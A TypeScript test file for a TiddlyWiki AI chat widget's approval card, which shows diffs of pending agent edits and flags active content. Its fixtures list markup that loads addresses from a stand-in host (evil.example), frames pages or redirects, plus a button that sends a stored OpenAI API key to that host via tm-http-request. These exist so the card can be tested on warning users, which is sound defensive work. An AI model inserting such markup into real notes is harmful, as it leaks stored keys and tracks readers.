// The approval card shows what a call would land, changes first (issue 24): the changed places of
// the text with a little context (a long text's last line without the rest), how many there
// are, only the fields that change (not the dates a write stamps or a default type), a new
// tiddler's text and a deleted one's fate; it flags active content, says a call once (the
// changes, else a preview; the exact arguments folded) and offers Edit where the call lets the
// user allow their own version. In the <$ai-chat> widget of a real TiddlyWiki (fake DOM).
import { bootWiki, type TW } from '../helpers/tw';

let $tw: TW;
const CHAT = 'Card chat';
const SELF_CHAT = 'Self card chat';
const PREVIEW_CHAT = 'Preview chat';
const DIFF_CHAT = 'Diff chat';
const LONG_CHAT = 'Long chat';
const MANY_CHAT = 'Many chat';
const DELETE_CHAT = 'Delete chat';
const BIG_CHAT = 'Big chat';
const BIG = Array.from({ length: 1000 }, (_, i) => `Line ${i}: ${'words of a big note '.repeat(5)}`).join('\n');
const PARAGRAPHS = Array.from({ length: 61 }, (_, i) => `Paragraph ${i + 1} of the long note.`);
const LONG = PARAGRAPHS.join('\n\n');
const LONG_NOTE = { title: 'Long note', text: LONG, tags: 'Notes', type: 'text/vnd.tiddlywiki', created: '20260101000000000', modified: '20260101000000000' };
/** A waiting call of `chat` (its user message first). */
function waiting(chat: string, tool: string, changes: unknown, extra: Record<string, string> = {}) {
  return [
    { title: chat, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${chat}/000000`, 'agent-chat': chat, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Do it' },
    {
      title: `$:/ai/messages/${chat}/000001`,
      'agent-chat': chat,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': tool,
      'tool-call-id': 'x1',
      'tool-args': '{}',
      'tool-status': 'pending',
      'tool-changes': JSON.stringify(changes),
      ...extra,
    },
  ];
}
const LOADS_CHAT = 'Loads chat';
/** A note with everything that loads an address, frames a page or reads a stored key, each with the flag the card must show. */
const LOADS: [string, string][] = [
  ['<div style="background:url(https://evil.example/a.png)">A</div>', 'a style loads https://evil.example/a.png when shown (CSS url())'],
  ['@@background:url(https://evil.example/b.png) B@@', 'a style loads https://evil.example/b.png when shown (CSS url())'],
  ['<span style.background-image="url(https://evil.example/c.png)">C</span>', 'a style loads https://evil.example/c.png when shown (CSS url())'],
  ['<style>p { background: url(https://evil.example/d.png) }</style>', '<style> restyles the whole page and can load addresses'],
  ['<img srcset="https://evil.example/e.png 2x">', 'loads https://evil.example/e.png when shown (srcset)'],
  ['![cat](https://evil.example/f.png)', 'external image https://evil.example/f.png (Markdown)'],
  ['![dog][g]\n\n[g]: https://evil.example/g.png', 'external image https://evil.example/g.png (Markdown)'],
  ['<link rel="stylesheet" href="https://evil.example/h.css">', '<link> loads a style sheet or another file from an address'],
  ['<iframe src="https://evil.example/i"></iframe>', '<iframe> shows another page inside this one'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv> can reload the page or send it to another address'],
  ['<base href="https://evil.example/">', '<base> changes where every relative link and image of the page points'],
  ['<svg><image href="https://evil.example/j.svg"/></svg>', 'loads https://evil.example/j.svg when shown (href)'],
  ['<svg><use href="https://evil.example/k.svg#x"/></svg>', 'loads https://evil.example/k.svg#x when shown (href)'],
  ['<video poster="https://evil.example/l.png"></video>', 'loads https://evil.example/l.png when shown (poster)'],
  ['<$password name="openai-api-key"/>', '<$password> shows a password or key saved in this browser to whoever views the note'],
  [
    '<$button><$action-sendmessage $message="tm-http-request" url="https://evil.example/" password-header-Authorization="openai-api-key"/>Go</$button>',
    'sends HTTP requests (tm-http-request), which can carry a password or key saved in this browser',
  ],
];
const LOADS_TEXT = LOADS.map(([text]) => text).join('\n\n');
const SELF_BEFORE = {
  title: 'Self agent',
  tags: '$:/tags/AI/Agent',
  'agent-provider': 'P',
  'agent-tools': 'edit-agent-definition',
  text: 'You are casual.',
  modified: '20260101000000000',
};
const AFTER = {
  title: 'Helper',
  text: 'Click <$button actions="<$action-sendmessage $message=tm-http-request/>">here</$button> [img[https://evil.example/x.png]]',
  type: 'text/vnd.tiddlywiki',
  tags: 'Notes [[Garden work]]',
  caption: 'A friendly helper',
  created: '20260101000000000',
  modified: '20260101000000000',
};

beforeAll(async () => {
  $tw = await bootWiki([
    { title: CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${CHAT}/000000`, 'agent-chat': CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Make a helper' },
    {
      title: `$:/ai/messages/${CHAT}/000001`,
      'agent-chat': CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'wiki-create',
      'tool-call-id': 'c1',
      'tool-args': JSON.stringify({ title: 'Helper', text: AFTER.text }),
      'tool-status': 'pending',
      'tool-changes': JSON.stringify({ Helper: { before: null, after: AFTER } }),
      text: 'Create "Helper"',
    },
    { title: SELF_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${SELF_CHAT}/000000`, 'agent-chat': SELF_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Be formal' },
    {
      title: `$:/ai/messages/${SELF_CHAT}/000001`,
      'agent-chat': SELF_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'edit-agent-definition',
      'tool-call-id': 'e1',
      'tool-args': JSON.stringify({ prompt: 'You are formal.' }),
      'tool-status': 'pending',
      'approval-choices': 'once deny',
      'tool-changes': JSON.stringify({
        'Self agent': { before: SELF_BEFORE, after: { ...SELF_BEFORE, text: 'You are formal.', modified: '20260102000000000' } },
      }),
      text: 'Change the system prompt of this agent.',
    },
    { title: PREVIEW_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${PREVIEW_CHAT}/000000`, 'agent-chat': PREVIEW_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Fetch it' },
    {
      title: `$:/ai/messages/${PREVIEW_CHAT}/000001`,
      'agent-chat': PREVIEW_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'web-fetch',
      'tool-call-id': 'c1',
      'tool-args': JSON.stringify({ url: 'https://example.com/page', maxChars: 5000 }),
      'tool-status': 'pending',
      text: 'Fetch https://example.com/page',
    },
    { title: LOADS_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${LOADS_CHAT}/000000`, 'agent-chat': LOADS_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Decorate it' },
    {
      title: `$:/ai/messages/${LOADS_CHAT}/000001`,
      'agent-chat': LOADS_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'wiki-create',
      'tool-call-id': 'c3',
      'tool-args': JSON.stringify({ title: 'Decorated', text: LOADS_TEXT }),
      'tool-status': 'pending',
      'tool-changes': JSON.stringify({ Decorated: { before: null, after: { title: 'Decorated', text: LOADS_TEXT } } }),
      text: 'Create "Decorated"',
    },
    { title: DIFF_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${DIFF_CHAT}/000000`, 'agent-chat': DIFF_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Tag it' },
    {
      title: `$:/ai/messages/${DIFF_CHAT}/000001`,
      'agent-chat': DIFF_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'wiki-update',
      'tool-call-id': 'c2',
      'tool-args': JSON.stringify({ title: 'Note', tags: ['Done'] }),
      'tool-status': 'pending',
      'tool-changes': JSON.stringify({
        Note: { before: { title: 'Note', tags: 'Draft', caption: 'Old' }, after: { title: 'Note', tags: 'Done', caption: 'Old and new' } },
      }),
      text: 'Update "Note"',
    },
    ...waiting(
      LONG_CHAT,
      'wiki-edit',
      {
        'Long note': {
          before: LONG_NOTE,
          after: { ...LONG_NOTE, text: LONG.replace('Paragraph 61 of', 'The last paragraph of'), modified: '20260102000000000' },
        },
      },
      { 'approval-edit': 'Long note' },
    ),
    ...waiting(MANY_CHAT, 'wiki-update', {
      'Long note': {
        before: LONG_NOTE,
        after: {
          ...LONG_NOTE,
          text: LONG.replace('Paragraph 2 of', 'Paragraph two of')
            .replace('Paragraph 30 of', 'Paragraph thirty of')
            .replace('Paragraph 60 of', 'Paragraph sixty of'),
        },
      },
    }),
    ...waiting(DELETE_CHAT, 'wiki-delete', { 'Long note': { before: LONG_NOTE, after: null } }),
    ...waiting(BIG_CHAT, 'wiki-update', {
      'Big note': { before: { title: 'Big note', text: BIG }, after: { title: 'Big note', text: BIG.replace('Line 500:', 'Line five hundred:') } },
    }),
  ]);
});

function render(chat = CHAT) {
  const parser = $tw.wiki.parseText('text/vnd.tiddlywiki', `<$ai-chat chat="${chat}"/>`);
  const widget = $tw.wiki.makeWidget(parser, { document: $tw.fakeDocument });
  const container = $tw.fakeDocument.createElement('div');
  widget.render(container, null);
  return container;
}

function find(node: any, className: string): any[] {
  const out: any[] = [];
  const walk = (n: any) => {
    if (
      String(n.attributes?.class ?? n.className ?? '')
        .split(' ')
        .includes(className)
    )
      out.push(n);
    for (const c of n.children ?? []) walk(c);
  };
  walk(node);
  return out;
}

test('a new tiddler: its title, the fields it gets (not the dates a write stamps, not a default type) and its text', () => {
  const container = render();
  const [card] = find(container, 'tc-ai-approval');
  const changes = find(card, 'tc-ai-approval-changes')[0];
  expect(find(changes, 'tc-ai-diff-title')[0].textContent).toBe('Helper · created');
  expect(find(changes, 'tc-ai-diff-field-name').map((n) => n.textContent)).toEqual(['tags', 'caption']);
  expect(find(changes, 'tc-ai-diff-field-value').map((n) => n.textContent)).toEqual(['Notes [[Garden work]]', 'A friendly helper']);
  expect(find(changes, 'tc-ai-diff-where')[0].textContent).toBe('Text of the new tiddler');
  expect(find(changes, 'tc-ai-diff-text')[0].textContent).toBe(AFTER.text);
  // The card offers Edit only where the call names the tiddler whose text may be edited.
  expect(find(card, 'tc-ai-approve-edit')).toHaveLength(0);
});

test("a long text's last line changed: the card shows that place with two lines of context, not the text from the top, and offers Edit", () => {
  const [card] = find(render(LONG_CHAT), 'tc-ai-approval');
  expect(find(card, 'tc-ai-diff-field')).toHaveLength(0);
  expect(find(card, 'tc-ai-diff-where')[0].textContent).toBe('1 change · line 121');
  const text = find(card, 'tc-ai-diff-text')[0];
  expect(text.textContent).toBe('Paragraph 60 of the long note.\n\nParagraph 61The last paragraph of the long note.');
  expect(find(text, 'tc-ai-diff-removed').map((n) => n.textContent)).toEqual(['Paragraph 61']);
  expect(find(text, 'tc-ai-diff-added').map((n) => n.textContent)).toEqual(['The last paragraph']);
  expect(find(card, 'tc-ai-diff-full')[0].textContent).toBe('Full text');
  const edit = find(card, 'tc-ai-approve-edit');
  expect(edit.map((b) => b.attributes['data-ai-action'])).toEqual(['approve-edit']);
  // The text box is built only when the user opens it.
  expect(find(card, 'tc-ai-approval-editor')).toHaveLength(0);
});

test('several changes: how many, the first shown, Previous and Next to step through them', () => {
  const [card] = find(render(MANY_CHAT), 'tc-ai-approval');
  expect(find(card, 'tc-ai-diff-where')[0].textContent).toBe('Change 1 of 3 · line 3');
  expect(find(find(card, 'tc-ai-diff-text')[0], 'tc-ai-diff-added').map((n) => n.textContent)).toEqual(['two']);
  const [previous] = find(card, 'tc-ai-diff-previous');
  const [next] = find(card, 'tc-ai-diff-next');
  expect(previous.attributes).toHaveProperty('disabled');
  expect(next.attributes).not.toHaveProperty('disabled');
  expect(next.attributes).not.toHaveProperty('hidden');
});

test('a 100 KB text costs the card no more than its changed place: a few hundred characters of DOM, rendered in milliseconds', () => {
  expect(BIG.length).toBeGreaterThan(100_000);
  render(BIG_CHAT); // the first render compiles the library
  const start = performance.now();
  const [card] = find(render(BIG_CHAT), 'tc-ai-approval');
  const took = performance.now() - start;
  expect(find(card, 'tc-ai-diff-where')[0].textContent).toBe('1 change · line 501');
  expect((find(card, 'tc-ai-approval-changes')[0].textContent as string).length).toBeLessThan(1000);
  expect(took).toBeLessThan(250);
});

test('a deletion says so and shows the start of what goes', () => {
  const [card] = find(render(DELETE_CHAT), 'tc-ai-approval');
  expect(find(card, 'tc-ai-diff-title')[0].textContent).toBe('Long note · deleted');
  expect(find(card, 'tc-ai-diff-gone')[0].textContent).toBe('Allowing this deletes the tiddler with everything in it; rolling back the turn restores it.');
  expect(find(card, 'tc-ai-diff-field')).toHaveLength(0);
  expect(find(find(card, 'tc-ai-diff-text')[0], 'tc-ai-diff-removed')[0].textContent).toMatch(/^Paragraph 1 of the long note\./);
  expect(find(card, 'tc-ai-diff-more')).toHaveLength(1);
});

test('the card flags the active content of the result: the button widget and the external image', () => {
  const container = render();
  const flags = find(find(container, 'tc-ai-approval')[0], 'tc-ai-active-content')[0].textContent as string;
  expect(flags).toContain('<$button>');
  expect(flags).toContain('<$action-sendmessage>');
  expect(flags).toContain('can run actions when clicked');
  expect(flags).toContain('external image https://evil.example/x.png');
});

test('the card flags, in words, everything that loads an address, frames a page or reads a stored key (issue 23)', () => {
  const [card] = find(render(LOADS_CHAT), 'tc-ai-approval');
  const flags = find(card, 'tc-ai-active-content')[0].children[1].children.map((li: any) => li.textContent as string);
  for (const [text, flag] of LOADS) expect([text, flags]).toEqual([text, expect.arrayContaining([flag])]);
});

test('a confirm-only call (edit-agent-definition): the card shows the definition\'s diff and offers only "once" and "deny"', () => {
  const [card] = find(render(SELF_CHAT), 'tc-ai-approval');
  const changes = find(card, 'tc-ai-approval-changes')[0];
  expect(find(changes, 'tc-ai-diff-title')[0].textContent).toContain('Self agent');
  const text = find(changes, 'tc-ai-diff-text')[0];
  expect(find(text, 'tc-ai-diff-removed').map((n) => n.textContent)).toEqual(['casual']);
  expect(find(text, 'tc-ai-diff-added').map((n) => n.textContent)).toEqual(['formal']);
  // Only what changes: the unchanged tools, tags and provider are not listed.
  expect(changes.textContent).not.toContain('agent-tools');
  const buttons = find(card, 'tc-ai-card-buttons')[0].children.map((b: any) => b.attributes?.['data-ai-action']);
  expect(buttons).toEqual(['approve-once', 'approve-deny']);
  const [other] = find(render(), 'tc-ai-approval');
  expect(find(other, 'tc-ai-card-buttons')[0].children).toHaveLength(4);
});

test('a call without planned changes shows its preview once, the exact arguments folded', () => {
  const [card] = find(render(PREVIEW_CHAT), 'tc-ai-approval');
  expect(find(card, 'tc-ai-approval-preview').map((n) => n.textContent)).toEqual(['Fetch https://example.com/page']);
  const args = find(card, 'tc-ai-tool-args');
  expect(args).toHaveLength(1);
  expect(args[0].parentNode.tag ?? args[0].parentNode.tagName).toMatch(/^details$/i);
  expect(args[0].textContent).toContain('"maxChars": 5000');
});

test('only the fields that change, word by word, in the wiki language', () => {
  const fields = () =>
    find(render(DIFF_CHAT), 'tc-ai-diff-field').map(
      (row) =>
        find(row, 'tc-ai-diff-field-name')[0].textContent +
        ': ' +
        row.children[1].children.map((n: any) => (n.tag === 'ins' ? `+${n.textContent}` : n.tag === 'del' ? `-${n.textContent}` : n.textContent)).join(''),
    );
  expect(fields()).toEqual(['tags: -Draft+Done', 'caption: Old+ and new']);
  // The text did not change: no text section. The card shows what changes, once: no preview besides.
  expect(find(render(DIFF_CHAT), 'tc-ai-diff-text')).toHaveLength(0);
  expect(find(render(DIFF_CHAT), 'tc-ai-approval-preview')).toHaveLength(0);
  $tw.wiki.addTiddler({ title: '$:/language', text: '$:/languages/zh-Hans' });
  try {
    expect(find(render(MANY_CHAT), 'tc-ai-diff-where')[0].textContent).toBe('第 1 处改动，共 3 处 · 第 3 行');
    expect(find(render(LONG_CHAT), 'tc-ai-approve-edit')[0].textContent).toBe('先编辑再允许');
  } finally {
    $tw.wiki.deleteTiddler('$:/language');
  }
});
